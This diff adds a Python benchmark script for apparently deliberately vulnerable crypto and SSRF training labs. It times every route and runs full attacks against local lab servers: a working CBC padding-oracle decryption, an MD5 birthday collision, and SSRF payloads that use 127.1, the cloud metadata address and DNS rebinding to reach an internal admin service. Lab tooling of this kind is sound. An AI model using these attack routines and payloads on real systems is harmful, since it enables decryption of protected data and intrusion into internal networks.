@@ -0,0 +1,473 @@
+#!/usr/bin/env python3
+"""Benchmark every route of the Python labs plus end-to-end attack runs.
+
+Each route of crypto/app.py and ssrf/app.py is driven in-process through the
+Flask test client and/or over a real socket (a threaded Werkzeug server
+started here, or an already running lab given with --crypto-url/--ssrf-url,
+e.g. a container serving with gunicorn). Three end-to-end runs go on top:
+
+  * a reference padding-oracle decryption of the /api/crypto/impossible
+    token, once with the batch oracle and once with single-shot queries;
+  * a birthday attack on the truncated-MD5 collision level, streaming
+    counter candidates until the server reports a collision;
+  * the SSRF levels solved against a local stand-in for the internal
+    :8080 service, IMPOSSIBLE by DNS rebinding through the lab's zone
+    (a running lab needs SSRF_DNS_RESPONDER=1, as in its image).
+
+For every scenario it reports requests/sec, p50/p99 latency and the peak RSS
+of this process, and writes everything to a JSON file. Pass --compare with
+an earlier result file to print the change per scenario.
+
+Rate limiting is switched off for the in-thread labs and the caps on open
+oracle streams and SSRF fetches are raised to --concurrency
+(LAB_RATE_LIMITS=off, ORACLE_STREAM_MAX*, SSRF_MAX_FETCHES*, unless set); a
+running lab given by URL keeps its own limits.
+
+Usage: python3 bench/bench_labs.py [--mode inprocess|socket|both]
+                                   [--requests N] [--concurrency C]
+                                   [--only SUBSTRING] [--output PATH]
+                                   [--compare PATH]
+"""
+import argparse
+import http.client
+import importlib.util
+import itertools
+import json
+import logging
+import os
+import resource
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlsplit
+
+LABS_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+RESULTS_DIR = os.path.join(LABS_DIR, 'bench', 'results')
+sys.path[:0] = [LABS_DIR, os.path.join(LABS_DIR, 'crypto'), os.path.join(LABS_DIR, 'ssrf')]
+
+from werkzeug.serving import make_server  # noqa: E402
+
+import dns_responder  # noqa: E402
+import internal_service  # noqa: E402
+
+# Rebinding names for the IMPOSSIBLE attack (5db8e000...), fresh per run so each starts on its public answer
+REBIND_NAMES = itertools.count(0xe000)
+
+STAND_IN_FILES = {
+    'easy_flag.txt': b'FLAG{ssrf_l0c4lh0st_p1ng}\n',
+    'admin_secret.txt': b'FLAG{1nt3rn4l_n3tw0rk_sc4n}\n',
+    'root_access.txt': b'FLAG{bl1nd_ssrf_ch41n}\n',
+}
+
+
+def load_lab(name):
+    """Import <lab>/app.py under a unique module name (both labs are app.py)."""
+    path = os.path.join(LABS_DIR, name, 'app.py')
+    spec = importlib.util.spec_from_file_location(f'{name}_lab_app', path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def peak_rss_mb():
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+
+
+def git_revision():
+    try:
+        return subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], cwd=LABS_DIR,
+                              capture_output=True, text=True, check=True).stdout.strip()
+    except (OSError, subprocess.CalledProcessError):
+        return None
+
+
+# Transports: the same (method, path, body, content type) over test client or socket
+
+class InProcess:
+    name = 'inprocess'
+
+    def __init__(self, app):
+        self.client = app.test_client()
+
+    def request(self, method, path, body=None, content_type=None):
+        response = self.client.open(path, method=method, data=body, content_type=content_type)
+        return response.status_code, response.get_data()
+
+
+class Socket:
+    name = 'socket'
+
+    def __init__(self, base_url):
+        parts = urlsplit(base_url)
+        self.host, self.port = parts.hostname, parts.port or 80
+        self.local = threading.local()
+
+    def request(self, method, path, body=None, content_type=None):
+        conn = getattr(self.local, 'conn', None)
+        if conn is None:
+            conn = self.local.conn = http.client.HTTPConnection(self.host, self.port, timeout=30)
+        headers = {'Content-Type': content_type} if content_type else {}
+        try:
+            conn.request(method, path, body=body, headers=headers)
+            response = conn.getresponse()
+            return response.status, response.read()
+        except (OSError, http.client.HTTPException):
+            conn.close()
+            self.local.conn = None
+            raise
+
+
+def serve_in_thread(app):
+    logging.getLogger('werkzeug').setLevel(logging.ERROR)
+    server = make_server('127.0.0.1', 0, app, threaded=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, f'http://127.0.0.1:{server.server_port}'
+
+
+def start_stand_in():
+    """The SSRF lab's internal file service, on an ephemeral port with stand-in files."""
+    directory = tempfile.mkdtemp(prefix='ssrf-stand-in-')
+    for name, content in STAND_IN_FILES.items():
+        with open(os.path.join(directory, name), 'wb') as f:
+            f.write(content)
+    return internal_service.start(directory, '127.0.0.1', 0)
+
+
+# Route scenarios
+
+def as_json(value):
+    return json.dumps(value).encode()
+
+
+def crypto_scenarios(transport):
+    token = json.loads(transport.request('GET', '/api/crypto/impossible')[1])['token']
+    raw = bytes.fromhex(token)
+    forged = [bytes([g]) * 16 + raw[-16:] for g in range(256)]
+    blob = os.urandom(256 * 1024)
+    return [
+        ('home', 'GET', '/', None, None),
+        ('easy', 'GET', '/api/crypto/easy', None, None),
+        ('medium', 'GET', '/api/crypto/medium', None, None),
+        ('verify', 'POST', '/api/crypto/verify',
+         as_json({'flag': 'FLAG{w34k_c1ph3r_cr4ck3d}', 'level': 'medium'}), 'application/json'),
+        ('collision', 'POST', '/api/crypto/collision',
+         as_json({'input1': 'Hello', 'input2': 'World'}), 'application/json'),
+        ('collision_upload_512k', 'POST', f'/api/crypto/collision/upload?split={len(blob)}',
+         blob + blob[::-1], 'application/octet-stream'),
+        ('impossible', 'GET', '/api/crypto/impossible', None, None),
+        ('padding_oracle', 'POST', '/api/crypto/padding-oracle',
+         as_json({'ciphertext': token}), 'application/json'),
+        ('padding_oracle_batch_256', 'POST', '/api/crypto/padding-oracle/batch?size=32',
+         b''.join(forged), 'application/octet-stream'),
+        ('padding_oracle_stream_256', 'POST', '/api/crypto/padding-oracle/stream',
+         b''.join(c.hex().encode() + b'\n' for c in forged), 'application/x-ndjson'),
+    ]
+
+
+def ssrf_scenarios(stand_in_port):
+    def fetch(level, url, name=None):
+        return (f'fetch_{name or level}', 'POST', f'/api/fetch/{level}', as_json({'url': url}), 'application/json')
+
+    return [
+        ('home', 'GET', '/', None, None),
+        fetch('easy', f'http://127.0.0.1:{stand_in_port}/easy_flag.txt'),
+        fetch('medium', f'http://127.1:{stand_in_port}/easy_flag.txt'),
+        fetch('medium', 'http://localhost/', name='medium_blocked'),
+        fetch('hard', 'http://169.254.169.254/latest/meta-data/'),
+        fetch('impossible', f'http://127.1:{stand_in_port}/root_access.txt', name='impossible_blocked'),
+        fetch('impossible', f'http://5db8d822.7f000001.rebind.lab:{stand_in_port}/root_access.txt'),
+        ('verify_code', 'POST', '/api/verify/code', as_json({'code': 'nope'}), 'application/json'),
+        ('internal_admin', 'GET', '/internal/admin', None, None),
+    ]
+
+
+def percentile(sorted_values, fraction):
+    if not sorted_values:
+        return 0.0
+    index = min(len(sorted_values) - 1, int(round(fraction * (len(sorted_values) - 1))))
+    return sorted_values[index]
+
+
+def run_scenario(transport, scenario, requests, concurrency):
+    _, method, path, body, content_type = scenario
+
+    def one(_):
+        start = time.perf_counter()
+        status, _ = transport.request(method, path, body, content_type)
+        return time.perf_counter() - start, status
+
+    transport.request(method, path, body, content_type)  # warm-up
+    started = time.perf_counter()
+    if concurrency > 1:
+        with ThreadPoolExecutor(concurrency) as pool:
+            samples = list(pool.map(one, range(requests)))
+    else:
+        samples = [one(i) for i in range(requests)]
+    wall = time.perf_counter() - started
+
+    latencies = sorted(s[0] for s in samples)
+    return {
+        'requests': requests,
+        'errors': sum(1 for s in samples if s[1] >= 500),
+        'rps': requests / wall,
+        'p50_ms': percentile(latencies, 0.50) * 1e3,
+        'p99_ms': percentile(latencies, 0.99) * 1e3,
+        'peak_rss_mb': peak_rss_mb(),
+    }
+
+
+# End-to-end attacks
+
+def batch_oracle(transport):
+    def oracle(candidates):
+        status, data = transport.request('POST', f'/api/crypto/padding-oracle/batch?size={len(candidates[0])}',
+                                         b''.join(candidates), 'application/octet-stream')
+        bitmap = bytes.fromhex(json.loads(data)['bitmap'])
+        return [bool(bitmap[i >> 3] & (0x80 >> (i & 7))) for i in range(len(candidates))]
+    return oracle
+
+
+def single_oracle(transport):
+    def oracle(candidates):
+        return [json.loads(transport.request('POST', '/api/crypto/padding-oracle',
+                                              as_json({'ciphertext': c.hex()}), 'application/json')[1])['valid']
+                for c in candidates]
+    return oracle
+
+
+def recover_intermediate(target, oracle, chunk, counter):
+    """Raw decryption of one block, recovered byte by byte through the oracle."""
+    intermediate = bytearray(16)
+    for pos in range(15, -1, -1):
+        pad = 16 - pos
+        prefix = bytearray(16)
+        for j in range(pos + 1, 16):
+            prefix[j] = intermediate[j] ^ pad
+
+        found = None
+        for start in range(0, 256, chunk):
+            guesses = range(start, start + chunk)
+            candidates = []
+            for guess in guesses:
+                prefix[pos] = guess
+                candidates.append(bytes(prefix) + target)
+            counter[0] += len(candidates)
+
+            for guess, valid in zip(guesses, oracle(candidates)):
+                if not valid:
+                    continue
+                if pad == 1 and pos > 0:
+                    # Rule out a longer accidental padding by disturbing the next byte
+                    probe = bytearray(candidates[guess - start])
+                    probe[pos - 1] ^= 0xFF
+                    counter[0] += 1
+                    if not oracle([bytes(probe)])[0]:
+                        continue
+                found = guess
+                break
+            if found is not None:
+                break
+
+        if found is None:
+            raise RuntimeError(f'no valid padding found for byte {pos}')
+        intermediate[pos] = found ^ pad
+    return intermediate
+
+
+def padding_oracle_attack(transport, oracle, chunk):
+    token = bytes.fromhex(json.loads(transport.request('GET', '/api/crypto/impossible')[1])['token'])
+    blocks = [token[i:i + 16] for i in range(0, len(token), 16)]
+    counter = [0]
+    started = time.perf_counter()
+
+    plaintext = b''
+    for previous, target in zip(blocks, blocks[1:]):
+        intermediate = recover_intermediate(target, oracle, chunk, counter)
+        plaintext += bytes(a ^ b for a, b in zip(intermediate, previous))
+    elapsed = time.perf_counter() - started
+
+    plaintext = plaintext[:-plaintext[-1]]
+    return {
+        'seconds': elapsed,
+        'oracle_queries': counter[0],
+        'queries_per_second': counter[0] / elapsed,
+        'recovered': plaintext.decode(errors='replace'),
+        'success': plaintext.startswith(b'FLAG{'),
+        'peak_rss_mb': peak_rss_mb(),
+    }
+
+
+def birthday_attack(transport, batch=262144):
+    transport.request('DELETE', '/api/crypto/collision/birthday')
+    started = time.perf_counter()
+    sent = 0
+    while True:
+        body = b''.join(i.to_bytes(16, 'little') for i in range(sent, sent + batch))
+        status, payload = transport.request('POST', '/api/crypto/collision/birthday?size=16', body,
+                                            'application/octet-stream')
+        state = json.loads(payload)
+        sent += batch
+        if status != 200 or state['collision'] or state['full']:
+            break
+    elapsed = time.perf_counter() - started
+
+    return {
+        'seconds': elapsed,
+        'candidates': state.get('candidates', 0),
+        'candidates_per_second': state.get('candidates', 0) / elapsed,
+        'success': state.get('collision') is not None,
+        'peak_rss_mb': peak_rss_mb(),
+    }
+
+
+def ssrf_attack(transport, stand_in_port):
+    def fetch(level, url):
+        return json.loads(transport.request('POST', f'/api/fetch/{level}', as_json({'url': url}),
+                                            'application/json')[1])
+
+    started = time.perf_counter()
+    steps = {
+        'easy': 'FLAG{' in str(fetch('easy', f'http://127.0.0.1:{stand_in_port}/easy_flag.txt').get('content')),
+        'medium': 'FLAG{' in str(fetch('medium', f'http://127.1:{stand_in_port}/easy_flag.txt').get('content')),
+        'hard': 'FLAG{' in json.dumps(fetch('hard', 'http://169.254.169.254/latest/meta-data/secret-key')),
+    }
+    # IMPOSSIBLE refuses internal addresses once resolved; a fresh rebinding name passes
+    # the check as 93.184.x.x and the blind job then connects to 127.0.0.1
+    blocked = not fetch('impossible', f'http://127.1:{stand_in_port}/root_access.txt').get('success')
+    job = fetch('impossible', f'http://5db8{next(REBIND_NAMES):04x}.7f000001.rebind.lab:{stand_in_port}/root_access.txt')
+    status = None
+    deadline = time.monotonic() + 10
+    while job.get('success') and status in (None, 'queued', 'running') and time.monotonic() < deadline:
+        jobs = json.loads(transport.request('GET', '/api/fetch/impossible/jobs')[1])['jobs']
+        status = next((j['status'] for j in jobs if j['id'] == job['job']), None)
+        time.sleep(0.01)
+    code = json.loads(transport.request('GET', '/internal/admin')[1])['verification_code']
+    verified = json.loads(transport.request('POST', '/api/verify/code', as_json({'code': code}),
+                                            'application/json')[1])
+    steps['impossible'] = blocked and status == 'done' and bool(verified.get('success'))
+
+    return {
+        'seconds': time.perf_counter() - started,
+        'steps': steps,
+        'success': all(steps.values()),
+        'peak_rss_mb': peak_rss_mb(),
+    }
+
+
+def print_row(name, result):
+    if 'rps' in result:
+        print(f'  {name:<32} {result["rps"]:>10,.0f} req/s  p50 {result["p50_ms"]:7.2f} ms  '
+              f'p99 {result["p99_ms"]:7.2f} ms  rss {result["peak_rss_mb"]:6.1f} MB'
+              + (f'  errors {result["errors"]}' if result['errors'] else ''))
+    else:
+        if 'oracle_queries' in result:
+            extra = f'{result["oracle_queries"]} queries'
+        elif 'candidates' in result:
+            extra = f'{result["candidates"]} candidates, {result["candidates_per_second"]:,.0f}/s'
+        else:
+            extra = json.dumps(result['steps'])
+        print(f'  {name:<32} {"ok " if result["success"] else "FAIL"} {result["seconds"]:7.2f} s  {extra}')
+
+
+def compare(previous_path, results):
+    with open(previous_path) as f:
+        previous = json.load(f)['results']
+    print(f'\nChange vs {previous_path}:')
+    for key, result in results.items():
+        old = previous.get(key)
+        if not old:
+            continue
+        if 'rps' in result and 'rps' in old:
+            print(f'  {key:<48} rps {100 * (result["rps"] / old["rps"] - 1):+6.1f}%  '
+                  f'p99 {100 * (result["p99_ms"] / old["p99_ms"] - 1):+6.1f}%')
+        elif 'seconds' in result and 'seconds' in old:
+            print(f'  {key:<48} time {100 * (result["seconds"] / old["seconds"] - 1):+6.1f}%')
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--mode', choices=('inprocess', 'socket', 'both'), default='both')
+    parser.add_argument('--requests', type=int, default=200, help='requests per route scenario')
+    parser.add_argument('--concurrency', type=int, default=8, help='client threads in socket mode')
+    parser.add_argument('--only', help='run only scenarios whose name contains this substring')
+    parser.add_argument('--crypto-url', help='benchmark a running crypto lab instead of an in-thread server')
+    parser.add_argument('--ssrf-url', help='benchmark a running ssrf lab instead of an in-thread server')
+    parser.add_argument('--output', help='result file (default: bench/results/<timestamp>-<rev>.json)')
+    parser.add_argument('--compare', help='earlier result file to diff against')
+    args = parser.parse_args()
+
+    # Measure the routes, not the token buckets or the caps on open streams and fetches
+    os.environ.setdefault('LAB_RATE_LIMITS', 'off')
+    for cap in ('ORACLE_STREAM_MAX', 'ORACLE_STREAM_MAX_PER_CLIENT', 'SSRF_MAX_FETCHES', 'SSRF_MAX_FETCHES_PER_CLIENT'):
+        os.environ.setdefault(cap, str(args.concurrency))
+    labs = {'crypto': load_lab('crypto').create_app(), 'ssrf': load_lab('ssrf').create_app()}
+    dns_responder.install(dns_responder.Zone())
+    stand_in = start_stand_in()
+    stand_in_port = stand_in.server_port
+
+    transports = []
+    if args.mode in ('inprocess', 'both'):
+        transports.append({lab: InProcess(app) for lab, app in labs.items()})
+    if args.mode in ('socket', 'both'):
+        urls = {'crypto': args.crypto_url, 'ssrf': args.ssrf_url}
+        transports.append({lab: Socket(urls[lab] or serve_in_thread(app)[1]) for lab, app in labs.items()})
+
+    results = {}
+    for by_lab in transports:
+        mode = by_lab['crypto'].name
+        concurrency = args.concurrency if mode == 'socket' else 1
+        print(f'\n[{mode}] concurrency={concurrency}')
+
+        scenarios = [('crypto', s) for s in crypto_scenarios(by_lab['crypto'])]
+        scenarios += [('ssrf', s) for s in ssrf_scenarios(stand_in_port)]
+        for lab, scenario in scenarios:
+            key = f'{mode}/{lab}/{scenario[0]}'
+            if args.only and args.only not in key:
+                continue
+            results[key] = run_scenario(by_lab[lab], scenario, args.requests, concurrency)
+            print_row(f'{lab}/{scenario[0]}', results[key])
+
+        attacks = {
+            'crypto/padding_oracle_attack_batch': lambda: padding_oracle_attack(
+                by_lab['crypto'], batch_oracle(by_lab['crypto']), chunk=256),
+            'crypto/padding_oracle_attack_single': lambda: padding_oracle_attack(
+                by_lab['crypto'], single_oracle(by_lab['crypto']), chunk=1),
+            'crypto/birthday_attack': lambda: birthday_attack(by_lab['crypto']),
+            'ssrf/attack': lambda: ssrf_attack(by_lab['ssrf'], stand_in_port),
+        }
+        for name, attack in attacks.items():
+            key = f'{mode}/{name}'
+            if args.only and args.only not in key:
+                continue
+            results[key] = attack()
+            print_row(name, results[key])
+
+    stand_in.shutdown()
+
+    revision = git_revision()
+    output = args.output or os.path.join(
+        RESULTS_DIR, time.strftime('%Y%m%d-%H%M%S') + (f'-{revision}' if revision else '') + '.json')
+    os.makedirs(os.path.dirname(os.path.abspath(output)), exist_ok=True)
+    with open(output, 'w') as f:
+        json.dump({
+            'revision': revision,
+            'timestamp': time.time(),
+            'python': sys.version.split()[0],
+            'requests_per_scenario': args.requests,
+            'concurrency': args.concurrency,
+            'results': results,
+        }, f, indent=2)
+    print(f'\nResults written to {output}')
+
+    if args.compare:
+        compare(args.compare, results)
+
+    failed = [k for k, r in results.items() if r.get('success') is False or r.get('errors')]
+    return 1 if failed else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())